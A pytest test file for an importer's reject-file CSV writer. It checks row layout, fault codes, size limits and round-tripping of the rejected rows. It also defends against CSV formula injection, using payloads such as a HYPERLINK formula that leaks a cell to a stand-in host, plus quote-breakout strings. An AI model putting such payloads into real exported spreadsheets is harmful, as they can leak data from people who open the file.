"""The rejected rows come back as a file that can be mended in a spreadsheet and read again."""

import csv
import io
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.importer.core.formulas import restored
from services.importer.core.record import Record, Reject
from services.importer.core.table import Table
from services.importer.reading import open_file
from services.importer.reject_file import RejectFile

COLUMNS = ("Company", "City")
EXTRA = ("line", "code", "reason")


def reject(line: int, *cells: str, code: str = "extra_cells", reason: str = "Put quotes around it.") -> Reject:
    return Reject(line, None, code, reason, cells=cells)


def written(*records: Sequence[Reject], columns: Sequence[str] = COLUMNS, kept: int = 10_000) -> bytes:
    with RejectFile(columns, kept) as file:
        for faults in records:
            file.add(faults)
        return b"".join(file.chunks())


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


def test_a_record_stands_there_with_its_line_code_and_reason() -> None:
    assert rows(written([reject(7, "Acme", "Paris")])) == [
        [*COLUMNS, *EXTRA],
        ["Acme", "Paris", "7", "extra_cells", "Put quotes around it."],
    ]


def test_a_record_with_several_faults_is_one_row_that_tells_each_code_and_reason_once() -> None:
    faults = [
        reject(7, "", "x", code="company_name_missing", reason="Fill it in."),
        reject(7, "", "x", code="bad_leadbay_id", reason="Leave it empty."),
        reject(7, "", "x", code="bad_leadbay_id", reason="Leave it empty."),
    ]

    assert rows(written(faults))[1] == [
        "",
        "x",
        "7",
        "company_name_missing bad_leadbay_id",
        "Fill it in. Leave it empty.",
    ]


def test_cells_that_have_no_column_stand_at_the_end_and_missing_ones_are_empty() -> None:
    assert rows(written([reject(2, "a", "b", "c", "d")], [reject(3, "a")]))[1:] == [
        ["a", "b", "2", "extra_cells", "Put quotes around it.", "c", "d"],
        ["a", "", "3", "extra_cells", "Put quotes around it."],
    ]


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\r=1+1", "\t=1", '=HYPERLINK("http://x/?"&A1)', " =1+1", '"=1+1" quoted'],
)
def test_no_cell_runs_in_a_spreadsheet_nor_does_a_name(cell: str) -> None:
    data = written([reject(2, cell, "x")], columns=(cell, "City"))

    assert [row[0] for row in rows(data)] == [f"'{cell}", f"'{cell}"]


@pytest.mark.parametrize("cell", [";=1+1", "a;b", "x\r\n=1+1", "a\tb", '","=1'])
def test_no_cell_breaks_out_of_its_quotes(cell: str) -> None:
    data = written([reject(2, cell, "x")])

    assert len(rows(data)) == 2
    assert restored(rows(data)[1][0]) == cell
    assert data.count(b'","') >= 8


def test_only_the_first_records_are_kept() -> None:
    with RejectFile(COLUMNS, 2) as file:
        for line in range(5):
            file.add([reject(line, "a", "b")])

        assert file.count == 2
        assert [row[2] for row in rows(b"".join(file.chunks()))[1:]] == ["0", "1"]


def test_a_file_of_rejects_without_end_is_cut_by_its_size() -> None:
    with RejectFile(COLUMNS, 10_000) as file:
        for line in range(100):
            file.add([reject(line, "x" * 1_000_000)])

        assert 60 < file.count < 70


def test_what_was_written_can_be_read_more_than_once_and_large_files_too() -> None:
    with RejectFile(COLUMNS, 10_000) as file:
        for line in range(3_000):
            file.add([reject(line, "x" * 1_000, "y")])

        first, second = (b"".join(file.chunks()) for _ in range(2))

    assert first == second
    assert len(rows(first)) == 3_001


def test_text_that_no_file_can_hold_is_replaced() -> None:
    assert rows(written([reject(2, "a\udcff", "b")]))[1][0] == "a?"


CELL = st.text(st.characters(codec="utf-8", exclude_characters="\0\ufeff"), max_size=10) | st.text(
    "=+-@'\" \t\r\n;x", max_size=6
)


@settings(max_examples=100)
@given(cells=st.lists(st.lists(CELL, min_size=2, max_size=2), min_size=1, max_size=5))
def test_the_file_is_read_like_any_other_and_gives_the_cells_back(cells: list[list[str]]) -> None:
    plain = [["Acme", "Paris"], ["Beta", "Lyon"], ["Gamma", "Lille"], ["Delta", "Nice"]]
    data = written(*([reject(line, *row)] for line, row in enumerate([*plain, *cells, *plain], 2)))

    table = open_file(lambda: [data]).table
    assert isinstance(table, Table)
    found = list(table.records)

    assert table.header.names == (*COLUMNS, *EXTRA)
    assert [list(map(restored, outcome.cells[:2])) for outcome in found if isinstance(outcome, Record)] == [
        *plain,
        *cells,
        *plain,
    ]
    assert [outcome.cells[2] for outcome in found if isinstance(outcome, Record)] == [
        str(line) for line in range(2, len(found) + 2)
    ]
